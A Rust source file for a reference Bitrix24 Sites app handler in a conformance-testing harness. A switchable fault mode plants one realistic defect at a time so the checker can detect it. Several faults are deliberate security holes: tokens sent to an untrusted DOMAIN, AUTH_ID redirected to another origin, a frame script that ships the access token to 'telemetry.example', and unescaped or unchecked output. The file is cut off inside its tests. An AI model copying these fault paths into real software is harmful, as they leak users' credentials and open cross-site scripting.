//! The built-in reference handler: a Sites-section app that does everything right. Its
//! installation handler (`/install`) learns the portal from `ONAPPINSTALL` and binds its settings
//! page (LANDING_SETTINGS) and its block item (LANDING_BLOCK_*) with `landing.repo.bind`; each page
//! validates the request, refuses portals it is not installed on, calls the portal with the token
//! it was given, refreshes on `expired_token`, waits out `QUERY_LIMIT_EXCEEDED` once, and escapes
//! everything it shows. The block item also asks the portal, with the user's token, for the block
//! it is opened on, and refuses a block the user cannot see. With a [`Fault`] switched on it has
//! exactly one realistic defect.

mod fault;

use std::collections::HashMap;
use std::net::SocketAddr;
use std::sync::{Arc, RwLock};
use std::time::Duration;

use axum::Router;
use axum::body::Bytes;
use axum::extract::State;
use axum::http::{HeaderMap, Method, StatusCode, Uri, header};
use axum::response::{IntoResponse, Response};
use axum::routing::{any, post};
use axum::serve::ListenerExt;
use serde_json::Value;
use url::form_urlencoded;

pub use fault::Fault;

use crate::html::escape;
use crate::journey::ONAPPUNINSTALL;
use crate::payload::{Family, LANDING_SETTINGS, LANGUAGES, PlacementOptions};

/// The app's OAuth credentials, sent with every refresh.
#[derive(Clone, Debug)]
pub struct Credentials {
    pub client_id: String,
    pub client_secret: String,
}

/// What the installation event told the app about the portal it is installed on.
#[derive(Clone, Debug)]
struct Installation {
    /// `host:port`, compared with DOMAIN: tokens go nowhere else.
    domain: String,
    member_id: String,
    /// `auth[client_endpoint]`: `http://host:port/rest/`.
    rest_url: String,
    /// From `auth[server_endpoint]`: `http://host:port/oauth/token/`.
    oauth_url: String,
    /// The installing user's token, kept only because one fault misuses it.
    installer_token: String,
    /// What proves an event comes from that portal (safe-event-handlers.md); older portals'
    /// installation pages send none.
    application_token: Option<String>,
}

/// The running reference handler; dropping it stops the server.
pub struct Reference {
    addr: SocketAddr,
    task: tokio::task::JoinHandle<()>,
}

impl Drop for Reference {
    fn drop(&mut self) {
        self.task.abort();
    }
}

impl Reference {
    /// Starts the handler on a free loopback port, not installed anywhere yet. With `ca_pem`, it
    /// trusts for https that CA and no other (the run's, when the portal speaks https).
    pub async fn start(
        credentials: Credentials,
        fault: Option<Fault>,
        ca_pem: Option<&str>,
    ) -> std::io::Result<Reference> {
        let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await?;
        let addr = listener.local_addr()?;
        let client = match ca_pem {
            Some(pem) => crate::fire::client_trusting(pem).map_err(std::io::Error::other)?,
            None => crate::fire::client(),
        };
        let app = Arc::new(App {
            installation: RwLock::new(None),
            credentials,
            fault,
            client,
            own_url: format!("http://{addr}/landing-settings"),
            block_url: format!("http://{addr}/landing-block"),
            front_end: format!("http://{}/app/", SocketAddr::new(addr.ip(), addr.port() ^ 1)),
            uninstall_url: format!("http://{addr}/uninstall"),
        });
        let router = Router::new()
            .route("/install", post(install))
            .route("/uninstall", post(uninstall))
            .route("/landing-block", any(block_page))
            .route(FRAME_SDK_PATH, axum::routing::get(frame_sdk))
            .fallback(page)
            .with_state(app);
        // Without TCP_NODELAY a kept-alive client waits ~40 ms per answer on delayed ACKs.
        let listener = listener.tap_io(|tcp| {
            let _ = tcp.set_nodelay(true);
        });
        let task = tokio::spawn(async move {
            let _ = axum::serve(listener, router).await;
        });
        Ok(Reference { addr, task })
    }

    /// `http://127.0.0.1:PORT/landing-settings`: the settings page it binds at installation.
    pub fn url(&self) -> String {
        format!("http://{}/landing-settings", self.addr)
    }

    /// `http://127.0.0.1:PORT/install`: the installation handler.
    pub fn install_url(&self) -> String {
        format!("http://{}/install", self.addr)
    }
}

struct App {
    /// Shared, not copied, with each request that reads it: a page reads it on every case.
    installation: RwLock<Option<Arc<Installation>>>,
    credentials: Credentials,
    fault: Option<Fault>,
    client: reqwest::Client,
    own_url: String,
    /// Where it serves LANDING_BLOCK_*.
    block_url: String,
    /// Another loopback origin, where only the RedirectTokenElsewhere fault sends the browser;
    /// nothing listens there, and nothing needs to: the harness follows no redirect elsewhere.
    front_end: String,
    /// Where it takes ONAPPUNINSTALL, bound with `event.bind` at installation.
    uninstall_url: String,
}

impl App {
    fn has(&self, fault: Fault) -> bool {
        self.fault == Some(fault)
    }

    fn installation(&self) -> Option<Arc<Installation>> {
        self.installation.read().unwrap_or_else(|poisoned| poisoned.into_inner()).clone()
    }
}

/// The portal an installation names, and the installing user's refresh token: from the
/// `ONAPPINSTALL` event's `auth[…]`, or from the installation page's POST (DOMAIN, PROTOCOL,
/// member_id, AUTH_ID, SERVER_ENDPOINT when the portal sends it).
fn read_installation<'a>(get: &impl Fn(&str) -> Option<&'a str>) -> Option<(Installation, Option<String>)> {
    let event = get("event");
    let installation = match event {
        Some(event) if event.eq_ignore_ascii_case("ONAPPINSTALL") => Installation {
            domain: get("auth[domain]")?.to_owned(),
            member_id: get("auth[member_id]")?.to_owned(),
            rest_url: get("auth[client_endpoint]")?.to_owned(),
            oauth_url: oauth_url(get("auth[server_endpoint]")?),
            installer_token: get("auth[access_token]")?.to_owned(),
            application_token: get("auth[application_token]").map(str::to_owned),
        },
        Some(_) => return None,
        None => {
            let domain = get("DOMAIN")?;
            let scheme = if get("PROTOCOL")? == "1" { "https" } else { "http" };
            let rest_url = format!("{scheme}://{domain}/rest/");
            // Older portals send no SERVER_ENDPOINT; the OAuth server is then the portal's own.
            let oauth_url = oauth_url(get("SERVER_ENDPOINT").unwrap_or(&rest_url));
            Installation {
                domain: domain.to_owned(),
                member_id: get("member_id")?.to_owned(),
                rest_url,
                oauth_url,
                installer_token: get("AUTH_ID")?.to_owned(),
                application_token: get("APPLICATION_TOKEN").map(str::to_owned),
            }
        }
    };
    let refresh = if event.is_some() { get("auth[refresh_token]") } else { get("REFRESH_ID") };
    Some((installation, refresh.map(str::to_owned)))
}

/// SERVER_ENDPOINT is the OAuth server's REST address; its token endpoint sits beside it.
fn oauth_url(server_endpoint: &str) -> String {
    format!("{}/oauth/token/", server_endpoint.trim_end_matches('/').trim_end_matches("/rest"))
}

/// The installation handler: keeps what `ONAPPINSTALL` says about the portal, then binds the
/// settings page with the installing user's token.
async fn install(State(app): State<Arc<App>>, uri: Uri, headers: HeaderMap, body: Bytes) -> Response {
    let pairs = read_params(&uri, &headers, &body);
    let params = merged(&pairs);
    let get = |name: &str| params.get(name).copied().filter(|v| !v.trim().is_empty());
    let Some((installation, refresh)) = read_installation(&get) else {
        return html(
            StatusCode::BAD_REQUEST,
            "Not installed",
            "<p>This address takes Bitrix24's installation: the ONAPPINSTALL event, or the installation page's POST.</p>",
        );
    };
    let token = installation.installer_token.clone();
    let installation = Arc::new(installation);
    *app.installation.write().unwrap_or_else(|poisoned| poisoned.into_inner()) = Some(installation.clone());
    if !app.has(Fault::NoBind) {
        let mut session = Session {
            app: &app,
            installation: &installation,
            rest_url: installation.rest_url.clone(),
            token: token.clone(),
            refresh,
        };
        let pages = [
            (LANDING_SETTINGS, app.own_url.as_str(), "Site settings (b24-conform reference)"),
            (Family::Block.code(), app.block_url.as_str(), "Block tools (b24-conform reference)"),
        ];
        for (placement, handler, title) in pages {
            let fields =
                [("fields[PLACEMENT]", placement), ("fields[PLACEMENT_HANDLER]", handler), ("fields[TITLE]", title)];
            if let Err(refusal) = session.call("landing.repo.bind", &fields).await {
                return html(refusal.status, "Not installed", &format!("<p>{}</p>", escape(&refusal.message)));
            }
        }
    }
    // The removal is learnt from ONAPPUNINSTALL, which goes only where event.bind says.
    let mut session = Session {
        app: &app,
        installation: &installation,
        rest_url: installation.rest_url.clone(),
        token,
        refresh: None,
    };
    let fields = [("event", ONAPPUNINSTALL), ("handler", app.uninstall_url.as_str())];
    if let Err(refusal) = session.call("event.bind", &fields).await {
        return html(refusal.status, "Not installed", &format!("<p>{}</p>", escape(&refusal.message)));
    }
    // The installation page (not the event) is open in the user's frame: it tells Bitrix24 the
    // installation is finished (installation-finish.md: until then no widget is shown).
    let finish = if get("event").is_none() { install_script(&app) } else { String::new() };
    html(StatusCode::OK, "Installed", &format!("<p>The settings page is bound to the Sites section.</p>{finish}"))
}

/// The removal handler: deletes the installation when ONAPPUNINSTALL names it, its member_id and
/// its application_token — "the only way to ensure that the event handler was indeed called by
/// Bitrix24" (safe-event-handlers.md). Any other event is refused (403) and changes nothing.
async fn uninstall(State(app): State<Arc<App>>, uri: Uri, headers: HeaderMap, body: Bytes) -> Response {
    let pairs = read_params(&uri, &headers, &body);
    let params = merged(&pairs);
    let get = |name: &str| params.get(name).copied().filter(|v| !v.trim().is_empty());
    if !get("event").is_some_and(|e| e.eq_ignore_ascii_case(ONAPPUNINSTALL)) {
        return html(
            StatusCode::BAD_REQUEST,
            "Not removed",
            "<p>This address takes Bitrix24's ONAPPUNINSTALL event.</p>",
        );
    }
    let mut installation = app.installation.write().unwrap_or_else(|poisoned| poisoned.into_inner());
    let ours = installation.as_ref().is_some_and(|i| {
        let token = i.application_token.as_deref().filter(|_| !app.has(Fault::UninstallIgnoresAppToken));
        get("auth[member_id]") == Some(i.member_id.as_str())
            && (app.has(Fault::UninstallIgnoresAppToken)
                || (token.is_some() && get("auth[application_token]") == token))
    });
    if !ours {
        return html(
            StatusCode::FORBIDDEN,
            "Not removed",
            "<p>This event does not carry the application_token of an installation of this app: ignored.</p>",
        );
    }
    if !app.has(Fault::ServesAfterUninstall) {
        *installation = None;
    }
    html(StatusCode::OK, "Removed", "<p>The app's installation on that Bitrix24 is deleted.</p>")
}

/// Why the page cannot be shown.
struct Refusal {
    status: StatusCode,
    message: String,
}

fn refuse(status: StatusCode, message: impl Into<String>) -> Refusal {
    Refusal { status, message: message.into() }
}

/// The settings page, at any path but the others.
async fn page(State(app): State<Arc<App>>, method: Method, uri: Uri, headers: HeaderMap, body: Bytes) -> Response {
    serve(&app, Family::Settings, method, &uri, &headers, &body).await
}

/// The block item.
async fn block_page(
    State(app): State<Arc<App>>,
    method: Method,
    uri: Uri,
    headers: HeaderMap,
    body: Bytes,
) -> Response {
    serve(&app, Family::Block, method, &uri, &headers, &body).await
}

async fn serve(app: &App, family: Family, method: Method, uri: &Uri, headers: &HeaderMap, body: &[u8]) -> Response {
    match render(app, family, method, uri, headers, body).await {
        Ok(response) => response,
        Err(refusal) => {
            let title = match family {
                Family::Settings => "Cannot open the settings",
                Family::Block => "Cannot open the block",
            };
            html(refusal.status, title, &format!("<p>{}</p>", escape(&refusal.message)))
        }
    }
}

/// What a page is about, as its family finds it at the portal.
struct Subject {
    /// The name and the value of the one field the JSON page has.
    json: (&'static str, String),
    /// The heading, as HTML.
    heading: String,
    /// Where the page was opened, as HTML.
    location: String,
}

async fn render(
    app: &App,
    family: Family,
    method: Method,
    uri: &Uri,
    headers: &HeaderMap,
    body: &[u8],
) -> Result<Response, Refusal> {
    if method != Method::POST && !(method == Method::GET && app.has(Fault::GetServesPage)) {
        return Err(refuse(StatusCode::METHOD_NOT_ALLOWED, "Bitrix24 opens this page with POST"));
    }
    let pairs = read_params(uri, headers, body);
    let params = merged(&pairs);
    let crashes = (app.has(Fault::InvalidUtf8500) && params.values().any(|v| v.contains('\u{FFFD}')))
        || (app.has(Fault::BodyLimit500) && body.len() > 64 * 1024)
        || (app.has(Fault::PhpArray500) && pairs.iter().any(|(name, _)| name.contains('[')))
        || (app.has(Fault::Duplicate500)
            && pairs.iter().enumerate().any(|(i, (n, _))| pairs[..i].iter().any(|(m, _)| m == n)));
    if crashes {
        return Ok(crash());
    }
    let get = |name: &str| params.get(name).copied().filter(|v| !v.trim().is_empty());
    let need = |name: &str| {
        get(name)
            .ok_or_else(|| refuse(StatusCode::BAD_REQUEST, format!("{name} is missing: open this page from Bitrix24")))
    };

    let domain = need("DOMAIN")?;
    if !app.has(Fault::ProtocolUnchecked) && !matches!(need("PROTOCOL")?, "0" | "1") {
        return Err(refuse(StatusCode::BAD_REQUEST, "PROTOCOL must be 0 or 1"));
    }
    let lang = need("LANG")?;
    if app.has(Fault::LangAllowlist) && !LANGUAGES.contains(&lang) {
        return Err(refuse(StatusCode::BAD_REQUEST, "this language is not supported"));
    }
    if app.has(Fault::LangMarkup500) && lang.contains('<') {
        return Ok(crash());
    }
    let member_id = match get("member_id") {
        None if app.has(Fault::AcceptsMissingMemberId) => None,
        _ => Some(need("member_id")?),
    };
    if !app.has(Fault::IgnoresPlacement) {
        let placement = need("PLACEMENT")?;
        if !family.serves(placement) {
            return Err(refuse(
                StatusCode::BAD_REQUEST,
                format!("this handler serves {}, not {placement}", family.code()),
            ));
        }
    }
    if app.has(Fault::RequiresAppToken) {
        need("APPLICATION_TOKEN")?;
    }
    if app.has(Fault::StatusAllowlist) && get("status").is_some_and(|s| !["L", "F", "D", "T", "P"].contains(&s)) {
        return Err(refuse(StatusCode::BAD_REQUEST, "unknown application status"));
    }
    let malformed = |name: &str, well_formed: fn(&str) -> bool| get(name).is_some_and(|v| !well_formed(v));
    if (app.has(Fault::AuthExpires500) && malformed("AUTH_EXPIRES", |v| v.parse::<i64>().is_ok()))
        || (app.has(Fault::AppSid500)
            && malformed("APP_SID", |v| v.len() == 32 && v.bytes().all(|b| b.is_ascii_hexdigit())))
        || (app.has(Fault::ScopeAssert500) && malformed("APPLICATION_SCOPE", |v| v.split(',').any(|s| s == "landing")))
    {
        return Ok(crash());
    }
    let options = match get("PLACEMENT_OPTIONS") {
        None => None,
        Some(text) => match PlacementOptions::parse(text, family.option_keys()) {
            Ok(options) => Some(options),
            Err(_) if app.has(Fault::OptionsJson500) => return Ok(crash()),
            Err(reason) if app.has(Fault::LeaksStackTrace) => {
                let trace = format!(
                    "Traceback (most recent call last):\n  File \"/srv/app/handler.py\", line 42, in settings\n    options = parse(form)\nValueError: {reason}"
                );
                return Err(refuse(StatusCode::BAD_REQUEST, trace));
            }
            Err(reason) => return Err(refuse(StatusCode::BAD_REQUEST, format!("PLACEMENT_OPTIONS: {reason}"))),
        },
    };
    // A block item is always opened on a block (block.md lists ID, CODE, LID), by its number.
    if family == Family::Block {
        let block = options.as_ref().and_then(|o| o.get("ID"));
        if block.and_then(|id| id.parse::<u64>().ok()).is_none() {
            return Err(refuse(
                StatusCode::BAD_REQUEST,
                "PLACEMENT_OPTIONS names no block: open this item from a block",
            ));
        }
    }
    let not_installed = || refuse(StatusCode::FORBIDDEN, "this app is not installed on that Bitrix24");
    let installation = app.installation().ok_or_else(not_installed)?;
    // Tokens go only to the portal this app is installed on. TrustsDomain checks only that
    // DOMAIN looks like `host[:port]`, then sends the calls wherever it points.
    let trusted = app.has(Fault::TrustsDomain) && looks_like_host(domain);
    let foreign_domain = domain != installation.domain && !app.has(Fault::AnyDomain) && !trusted;
    let foreign_member = member_id.is_some_and(|m| m != installation.member_id) && !app.has(Fault::AnyMemberId);
    if foreign_domain || foreign_member {
        return Err(not_installed());
    }
    let Some(auth_id) = get("AUTH_ID") else {
        return Err(refuse(StatusCode::UNAUTHORIZED, "AUTH_ID is missing: open this page from Bitrix24"));
    };
    let rest_url = if trusted { format!("http://{domain}/rest/") } else { installation.rest_url.clone() };
    let token = if app.has(Fault::InstallerToken) { &installation.installer_token } else { auth_id };
    let mut session = Session {
        app,
        installation: &installation,
        rest_url,
        token: token.to_owned(),
        refresh: get("REFRESH_ID").map(str::to_owned),
    };

    let user = session.call("user.current", &[]).await?;
    let subject = match family {
        Family::Settings => settings(app, &mut session, options.as_ref()).await?,
        Family::Block => block(app, &mut session, options.as_ref()).await?,
    };
    if app.has(Fault::CallsUnknownMethod) && session.call("no.such.method", &[]).await.is_err() {
        return Ok(crash());
    }
    let user_name = user.get("NAME").and_then(Value::as_str).unwrap_or("unknown user");

    if app.has(Fault::JsonPage) {
        let (name, value) = subject.json;
        let body = serde_json::json!({name: value, "user": user_name}).to_string();
        return Ok(([(header::CONTENT_TYPE, "application/json")], body).into_response());
    }
    // URI is where the editor was opened: a path on the portal. Anything else (a javascript:
    // URL, another host) is not linked.
    let back = options.as_ref().and_then(|o| o.extra.get("URI")).and_then(Value::as_str).filter(|uri| {
        app.has(Fault::TrustsUri) || (uri.starts_with('/') && !uri.starts_with("//") && !uri.contains('\\'))
    });
    let back = back.map_or(String::new(), |uri| format!("<p><a href=\"{}\">Back to the page</a></p>", escape(uri)));
    let lang_attribute = if app.has(Fault::ReflectsLang) { lang.to_owned() } else { escape(lang) };
    let lang_script = if app.has(Fault::LangInScript) { format!("'{lang}'") } else { js_string(lang) };
    let content = format!(
        "<main lang=\"{lang_attribute}\"><h1>{}</h1>{}<p>Opened by {} ({})</p>{back}</main>\n<script>var lang = {lang_script};</script>{}",
        subject.heading,
        subject.location,
        escape(user_name),
        escape(lang),
        placement_script(app)
    );
    if app.has(Fault::RedirectTokenElsewhere) {
        let token: String = form_urlencoded::byte_serialize(auth_id.as_bytes()).collect();
        let to = format!("{}?AUTH_ID={token}", app.front_end);
        // A URL longer than servers take (nginx's and Apache's default request line, 8 KiB)
        // would not reach the front end: such a request gets the page here.
        if to.len() <= 8 * 1024 {
            return Ok((StatusCode::SEE_OTHER, [(header::LOCATION, to)]).into_response());
        }
    }
    if app.has(Fault::SlowPage) {
        tokio::time::sleep(std::time::Duration::from_millis(3_200)).await;
    }
    let title = match family {
        Family::Settings => "Site settings",
        Family::Block => "Block tools",
    };
    let mut page = html(StatusCode::OK, title, &content);
    if app.has(Fault::ForbidsFraming) {
        page.headers_mut().insert(header::X_FRAME_OPTIONS, header::HeaderValue::from_static("SAMEORIGIN"));
    }
    Ok(page)
}

/// The settings page's subject: the site PLACEMENT_OPTIONS names, as the portal lists it.
async fn settings(
    app: &App,
    session: &mut Session<'_>,
    options: Option<&PlacementOptions>,
) -> Result<Subject, Refusal> {
    let site_id = options.and_then(|o| o.get("SITE_ID"));
    let site = match site_id {
        Some(id) => session.call("landing.site.getList", &[("params[filter][ID]", id)]).await?,
        None => Value::Null,
    };
    let site_title = site.get(0).and_then(|s| s.get("TITLE")).and_then(Value::as_str).unwrap_or("this site");
    let heading = if app.has(Fault::PageTypo) { "Settinqs" } else { "Settings" };
    let lid = options.and_then(|o| o.get("LID")).unwrap_or_default();
    let location = match site_id {
        Some(id) if app.has(Fault::OptionsUnescaped) => format!("<p>Site {id}, page {}</p>", escape(lid)),
        Some(id) => format!("<p>Site {}, page {}</p>", escape(id), escape(lid)),
        None => "<p>No site was given.</p>".to_owned(),
    };
    Ok(Subject {
        json: ("site", site_title.to_owned()),
        heading: format!("{heading} of {}", escape(site_title)),
        location,
    })
}

/// The block item's subject: the block PLACEMENT_OPTIONS names (checked before), read with the
/// user's own token. The item is offered to everyone who opens the editor, so what this user may
/// see is the portal's to say: a block it does not give them is refused.
async fn block(app: &App, session: &mut Session<'_>, options: Option<&PlacementOptions>) -> Result<Subject, Refusal> {
    let option = |key: &str| options.and_then(|o| o.get(key)).unwrap_or_default();
    let (id, code, lid) = (option("ID"), option("CODE"), option("LID"));
    let name = match app.has(Fault::IgnoresBlockRights) {
        true => None,
        false => session.call("landing.block.getbyid", &[("block", id)]).await?.get("name").cloned(),
    };
    let name = name.as_ref().and_then(Value::as_str).unwrap_or("a block");
    let code = if app.has(Fault::BlockCodeUnescaped) { code.to_owned() } else { escape(code) };
    Ok(Subject {
        json: ("block", id.to_owned()),
        heading: format!("Block {code}"),
        location: format!("<p>{} {} on page {}</p>", escape(name), escape(id), escape(lid)),
    })
}

/// Where the handler serves @bitrix24/b24jssdk's browser bundle to its frames.
const FRAME_SDK_PATH: &str = "/assets/b24jssdk-2.1.0.umd.min.js";

/// The pinned bundle (assets/b24jssdk/README.md): served by the handler, never from a CDN.
const FRAME_SDK: &[u8] = include_bytes!("../../assets/b24jssdk/b24jssdk-2.1.0.umd.min.js");

async fn frame_sdk() -> Response {
    // The file never changes under its versioned name.
    let headers = [
        (header::CONTENT_TYPE, "text/javascript; charset=utf-8"),
        (header::CACHE_CONTROL, "public, max-age=31536000, immutable"),
    ];
    (headers, FRAME_SDK).into_response()
}

/// The script of the settings page and the block item, written as b24jssdk's docs show (UMD:
/// `B24Js.initializeB24Frame()` once the DOM is ready, in a try/catch): it reads the placement's
/// options, calls the portal from the browser, says so in the page and fits the frame to it. It
/// holds no value of the request: what it shows it reads from the SDK, as text. Each frame fault
/// changes this script and nothing else.
fn placement_script(app: &App) -> String {
    // Registered once the page has loaded, DOMContentLoaded never comes: the SDK never starts.
    let start = if app.has(Fault::FrameNeverInits) {
        "window.addEventListener('load', () => document.addEventListener('DOMContentLoaded', boot))"
    } else {
        "document.addEventListener('DOMContentLoaded', boot)"
    };
    // A line that writes to an element the page does not have.
    let throws =
        if app.has(Fault::FrameThrows) { "\ndocument.getElementById('saved').textContent = 'Saved'" } else { "" };
    // Hidden while the SDK starts, and never shown again.
    let hide =
        if app.has(Fault::FrameBlank) { "\n    document.documentElement.style.visibility = 'hidden'" } else { "" };
    let leak = if app.has(Fault::FrameTokenElsewhere) {
        "\n    const auth = $b24.auth.getAuthData()\n    if (auth) fetch('http://telemetry.example/collect?auth=' + encodeURIComponent(auth.access_token), { mode: 'no-cors' }).catch(() => {})"
    } else {
        ""
    };
    // The SDK refreshes a refused token through the portal's page and calls again; a call of
    // its own with the token of the init data does not.
    let call = if app.has(Fault::FrameIgnoresRefresh) {
        "const auth = $b24.auth.getAuthData()\n    await fetch($b24.getTargetOrigin() + '/rest/user.current.json', { method: 'POST', body: new URLSearchParams({ auth: auth ? auth.access_token : '' }) })"
    } else {
        "await $b24.actions.v2.call.make({ method: 'user.current', params: {} })"
    };
    format!(
        "\n<script src=\"{FRAME_SDK_PATH}\"></script>\n<script>\nasync function boot() {{\n  try {{{hide}\n    const $b24 = await B24Js.initializeB24Frame(){leak}\n    {call}\n    const shown = document.createElement('p')\n    shown.textContent = 'In the frame: ' + $b24.placement.title + ', options ' + Object.keys($b24.placement.options).join(', ')\n    document.querySelector('main').append(shown)\n    await $b24.parent.fitWindow()\n  }} catch (error) {{\n    console.error(error)\n  }}\n}}\n{start}{throws}\n</script>"
    )
}

/// The installation page's script: once the SDK has its init data, the installation is finished.
fn install_script(app: &App) -> String {
    let finish = if app.has(Fault::FrameNoInstallFinish) { "" } else { "\n    await $b24.installFinish()" };
    format!(
        "\n<script src=\"{FRAME_SDK_PATH}\"></script>\n<script>\ndocument.addEventListener('DOMContentLoaded', async () => {{\n  try {{\n    const $b24 = await B24Js.initializeB24Frame(){finish}\n  }} catch (error) {{\n    console.error(error)\n  }}\n}})\n</script>"
    )
}

/// What an uncaught exception looks like from outside.
fn crash() -> Response {
    (StatusCode::INTERNAL_SERVER_ERROR, "Internal Server Error").into_response()
}

/// A JavaScript string literal that is safe inside a `<script>` element too.
fn js_string(text: &str) -> String {
    let mut out = String::from("\"");
    for c in text.chars() {
        match c {
            '"' | '\'' | '\\' | '<' | '>' | '&' | '`' => out.push_str(&format!("\\u{:04X}", c as u32)),
            c if (c as u32) < 0x20 || c == '\u{2028}' || c == '\u{2029}' => {
                out.push_str(&format!("\\u{:04X}", c as u32))
            }
            c => out.push(c),
        }
    }
    out.push('"');
    out
}

/// The query string and the form (or JSON) body: Bitrix24 splits the fields between them.
/// Returns every pair as sent ([`merged`] makes the map the page reads).
fn read_params(uri: &Uri, headers: &HeaderMap, body: &[u8]) -> Vec<(String, String)> {
    let mut params: Vec<(String, String)> =
        form_urlencoded::parse(uri.query().unwrap_or_default().as_bytes()).into_owned().collect();
    let json = headers
        .get(header::CONTENT_TYPE)
        .and_then(|v| v.to_str().ok())
        .is_some_and(|v| v.starts_with("application/json"));
    if json {
        if let Ok(object) = serde_json::from_slice::<serde_json::Map<String, Value>>(body) {
            params.extend(object.into_iter().filter_map(|(k, v)| v.as_str().map(|s| (k, s.to_owned()))));
        }
    } else {
        params.extend(form_urlencoded::parse(body).into_owned());
    }
    params
}

/// The pairs as one map in which a later pair wins, as PHP's does; it borrows them, copying none.
fn merged(pairs: &[(String, String)]) -> HashMap<&str, &str> {
    pairs.iter().map(|(name, value)| (name.as_str(), value.as_str())).collect()
}

/// REST calls on behalf of one request's user.
struct Session<'a> {
    app: &'a App,
    installation: &'a Installation,
    /// Where the calls go: the installation's `client_endpoint`.
    rest_url: String,
    token: String,
    refresh: Option<String>,
}

/// How long to wait before calling again after `QUERY_LIMIT_EXCEEDED`: the portal's leaky bucket
/// drains two requests a second (limits.md, PROTOCOL.md 2.4).
const RATE_LIMIT_PAUSE: Duration = Duration::from_millis(500);

impl Session<'_> {
    /// Calls `method`; on a refused token refreshes once with REFRESH_ID and calls again; on a
    /// rate limit waits once and calls again.
    async fn call(&mut self, method: &str, args: &[(&str, &str)]) -> Result<Value, Refusal> {
        let mut answer = self.post(method, args).await?;
        if error_code(&answer).as_deref() == Some("query_limit_exceeded") && !self.app.has(Fault::RateLimit502) {
            tokio::time::sleep(RATE_LIMIT_PAUSE).await;
            answer = self.post(method, args).await?;
        }
        let refused = matches!(error_code(&answer).as_deref(), Some("expired_token" | "invalid_token"));
        if !refused {
            return result(self.app, method, answer);
        }
        if self.app.has(Fault::NoRefresh) {
            return Ok(Value::Null);
        }
        self.renew().await?;
        result(self.app, method, self.post(method, args).await?)
    }

    async fn post(&self, method: &str, args: &[(&str, &str)]) -> Result<Value, Refusal> {
        let mut form: Vec<(&str, &str)> = vec![("auth", &self.token)];
        form.extend_from_slice(args);
        let url = format!("{}{method}.json", self.rest_url);
        let response = self.app.client.post(url).form(&form).send().await.map_err(|e| self.unreachable(e))?;
        response.json::<Value>().await.map_err(|e| self.unreachable(e))
    }

    /// A portal that cannot be reached is a gateway failure, except to the fault that trusts
    /// DOMAIN: it takes a DOMAIN that does not answer for a portal it is not installed on.
    fn unreachable(&self, error: reqwest::Error) -> Refusal {
        if self.app.has(Fault::TrustsDomain) {
            return refuse(StatusCode::FORBIDDEN, format!("could not reach that Bitrix24: {error}"));
        }
        unreachable(error)
    }

    async fn renew(&mut self) -> Result<(), Refusal> {
        let expired = || refuse(StatusCode::UNAUTHORIZED, "your Bitrix24 session has expired: reopen the settings");
        let refresh = self.refresh.clone().ok_or_else(expired)?;
        let credentials = &self.app.credentials;
        let form = [
            ("grant_type", "refresh_token"),
            ("client_id", credentials.client_id.as_str()),
            ("client_secret", credentials.client_secret.as_str()),
            ("refresh_token", refresh.as_str()),
        ];
        let response =
            self.app.client.post(&self.installation.oauth_url).form(&form).send().await.map_err(unreachable)?;
        let answer: Value = response.json().await.map_err(unreachable)?;
        let (Some(access), Some(next)) = (answer["access_token"].as_str(), answer["refresh_token"].as_str()) else {
            return Err(expired());
        };
        self.token = access.to_owned();
        self.refresh = Some(next.to_owned());
        Ok(())
    }
}

fn error_code(answer: &Value) -> Option<String> {
    answer.get("error").and_then(Value::as_str).map(str::to_lowercase)
}

fn result(app: &App, method: &str, answer: Value) -> Result<Value, Refusal> {
    match error_code(&answer) {
        None => Ok(answer.get("result").cloned().unwrap_or(Value::Null)),
        Some(code) if code == "expired_token" || code == "invalid_token" => {
            Err(refuse(StatusCode::UNAUTHORIZED, "your Bitrix24 session has expired: reopen the settings"))
        }
        // Bound already: the installation page is opened again until the app calls installFinish
        // (installation-finish.md), and each opening installs anew.
        Some(code) if code == "placement_exist" && method == "landing.repo.bind" => Ok(Value::Bool(true)),
        // The app was removed from that Bitrix24 (rest/lib/oauth/auth.php).
        Some(code) if code == "application_not_found" && app.has(Fault::ServesAfterUninstall) => Ok(Value::Null),
        Some(code) if code == "application_not_found" => {
            Err(refuse(StatusCode::FORBIDDEN, "this app is no longer installed on that Bitrix24"))
        }
        // landing-block-get-by-id.md: "Block not found in the selected version of the page,
        // unavailable to the current user, or deleted".
        Some(code) if code == "block_not_found" => {
            Err(refuse(StatusCode::FORBIDDEN, "this block does not exist, or you may not see it"))
        }
        Some(code) if code == "insufficient_scope" => Err(refuse(
            StatusCode::FORBIDDEN,
            format!("this app may not call {method} on your Bitrix24: ask an administrator to grant it the scope"),
        )),
        Some(code) => Err(refuse(StatusCode::BAD_GATEWAY, format!("Bitrix24 refused {method}: {code}"))),
    }
}

/// `host` or `host:port` in ASCII letters, digits, dots and dashes: the only check the
/// TrustsDomain fault makes before it trusts DOMAIN.
fn looks_like_host(domain: &str) -> bool {
    let (host, port) = domain.split_once(':').unwrap_or((domain, "1"));
    !host.is_empty()
        && host.chars().all(|c| c.is_ascii_alphanumeric() || c == '.' || c == '-')
        && port.parse::<u16>().is_ok()
}

fn unreachable(error: reqwest::Error) -> Refusal {
    refuse(StatusCode::BAD_GATEWAY, format!("Bitrix24 did not answer: {error}"))
}

fn html(status: StatusCode, title: &str, content: &str) -> Response {
    let page = format!(
        "<!doctype html>\n<html><head><meta charset=\"utf-8\"><title>{}</title></head>\n<body>{content}</body></html>\n",
        escape(title)
    );
    (status, [(header::CONTENT_TYPE, "text/html; charset=utf-8")], page).into_response()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn app(fault: Option<Fault>) -> App {
        App {
            installation: RwLock::new(None),
            credentials: Credentials { client_id: "c".to_owned(), client_secret: "s".to_owned() },
            fault,
            client: crate::fire::client(),
            own_url: String::new(),
            block_url: String::new(),
            front_end: String::new(),
            uninstall_url: String::new(),
        }
    }

    /// The bundle is served whole, as JavaScript, cacheable for good: its name carries its version.
    #[tokio::test]
    async fn the_frame_sdk_is_served_whole_as_javascript() {
        let response = frame_sdk().await;
        let header = |name| response.headers().get(name).and_then(|v| v.to_str().ok()).map(str::to_owned);
        assert_eq!(header(header::CONTENT_TYPE).as_deref(), Some("text/javascript; charset=utf-8"));
        assert_eq!(header(header::CACHE_CONTROL).as_deref(), Some("public, max-age=31536000, immutable"));
        let body = axum::body::to_bytes(response.into_body(), usize::MAX).await.expect("the body");
        assert_eq!(body.len(), FRAME_SDK.len());
        assert!(FRAME_SDK.windows(5).any(|w| w == b"B24Js"), "the UMD bundle defines B24Js");
    }

    /// A frame fault changes the script of the pages it concerns, and every other fault leaves
    /// both scripts as they are.
    #[test]
